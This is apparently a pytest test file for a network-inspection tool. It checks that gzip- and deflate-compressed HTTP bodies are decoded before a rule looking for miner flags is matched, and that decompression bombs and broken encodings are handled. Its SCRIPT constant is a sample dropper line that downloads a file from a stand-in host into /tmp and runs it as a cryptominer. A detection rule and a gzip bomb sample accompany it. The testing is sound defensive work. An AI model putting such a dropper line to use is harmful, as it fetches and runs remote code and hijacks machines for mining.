"""Compressed HTTP bodies (Content-Encoding gzip / deflate) are judged decompressed, as Suricata does:
a miner script served gzip-compressed by a real HTTP server to curl, captured on loopback, fires
a response-body rule; the same body uncompressed and other bodies do not hide it or fake it; a
decompression bomb costs `body_max` bytes of output."""

from __future__ import annotations

import gzip
import subprocess
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cloudward.core.scan import ScanResult
from cloudward.network.capture import read_capture
from cloudward.network.inspect import InspectOptions, Totals, inspect_capture, prepare
from cloudward.network.pipeline import inspectables
from cloudward.network.protocols.base import ParserLimits
from cloudward.network.protocols.http import decode_content
from tests.network.capturing import capture_lo, serving

SCRIPT = b"#!/bin/sh\ncurl -s http://pool.example/x -o /tmp/.x && /tmp/.x --donate-level 1 -o xmr.example:3333\n"
CLEAN = b"#!/bin/sh\necho backup done\n"
BOMB = gzip.compress(b"\0" * (16 * 1024 * 1024) + b"--donate-level")


def _raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(data) + packer.flush()


BODIES: dict[str, tuple[bytes, bytes]] = {  # path -> (Content-Encoding, body)
    "/gzip.sh": (b"gzip", gzip.compress(SCRIPT)),
    "/deflate.sh": (b"deflate", zlib.compress(SCRIPT)),
    "/raw-deflate.sh": (b"deflate", _raw_deflate(SCRIPT)),
    "/twice.sh": (b"gzip, gzip", gzip.compress(gzip.compress(SCRIPT))),
    "/clean.sh": (b"gzip", gzip.compress(CLEAN)),
    "/plain.sh": (b"", SCRIPT),
    "/bomb.sh": (b"gzip", BOMB),
    "/broken.sh": (b"gzip", b"\x1f\x8b\x08\x00not gzip at all"),
}


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        coding, body = BODIES[self.path]
        self.send_response(200)
        if coding:
            self.send_header("Content-Encoding", coding.decode())
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@contextmanager
def server() -> Iterator[int]:
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    with serving(httpd):
        yield httpd.server_address[1]


@pytest.fixture(scope="module")
def downloads() -> Path:
    with server() as port, capture_lo([port]) as pcap:
        for path in BODIES:  # curl as a dropper runs it: no --compressed, it just saves the bytes
            subprocess.run(["curl", "-s", "-o", "/dev/null", f"http://127.0.0.1:{port}{path}"], check=True,
                           timeout=30)
    return pcap


def test_a_compressed_miner_script_is_judged_decompressed(downloads: Path, tmp_path: Path):
    rules = tmp_path / "body.rules"
    rules.write_text('alert http any any -> any any (msg:"miner flags in a response body"; flow:to_client; '
                     'http.response_body; content:"--donate-level"; sid:9200001; rev:1;)\n')
    result, totals = ScanResult(kind="network_inspect"), Totals()
    inspect_capture(downloads, prepare(InspectOptions(rule_files=[rules], builtin=False)), result, totals)
    assert not result.errors
    fired = sorted(f.evidence["sid"] for f in result.findings)
    # gzip, deflate (zlib and raw), gzip twice, and the uncompressed one; not clean, bomb (beyond body_max), broken
    assert fired == [9200001] * 5


def test_bodies_their_codings_and_their_bounds(downloads: Path):
    responses = [u for u in inspectables(read_capture(downloads)) if "http.response_body" in u.buffers]
    by_size = {len(u.buffers["http.response_body"]): u.extra for u in responses}
    assert len(SCRIPT) in by_size and len(CLEAN) in by_size
    bomb = [u for u in responses if len(u.buffers["http.response_body"]) == ParserLimits().body_max]
    assert bomb and bomb[0].extra.get("truncated") and set(bomb[0].buffers["http.response_body"]) == {0}
    broken = [u for u in responses if "decode_error" in u.extra]
    assert len(broken) == 1 and broken[0].buffers["http.response_body"].startswith(b"\x1f\x8b")


@pytest.mark.parametrize("coding, body, message", [
    (b"br", b"\x0b\x02\x80", "not decoded"),
    (b"gzip, gzip, gzip", b"", "at most 2"),
    (b"gzip", b"plain text", "does not decode"),
    (b"deflate", b"\xff\xff\xff", "does not decode"),
])
def test_codings_that_cannot_be_undone(coding: bytes, body: bytes, message: str):
    with pytest.raises(ValueError, match=message):
        decode_content(body, coding, 1024)


def test_output_never_exceeds_the_limit():
    decoded, cut = decode_content(gzip.compress(b"a" * 100_000), b"gzip", 1000)
    assert decoded == b"a" * 1000 and cut
    assert decode_content(zlib.compress(b"abc"), b"identity, deflate", 1000) == (b"abc", False)


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200), st.sampled_from([b"gzip", b"deflate", b"x-gzip", b"gzip, deflate", b"GZIP"]),
       st.integers(1, 5000))
def test_fuzz_decode_raises_only_value_error(body: bytes, coding: bytes, limit: int):
    try:
        decoded, _ = decode_content(body, coding.lower(), limit)
    except ValueError:
        return
    assert len(decoded) <= limit
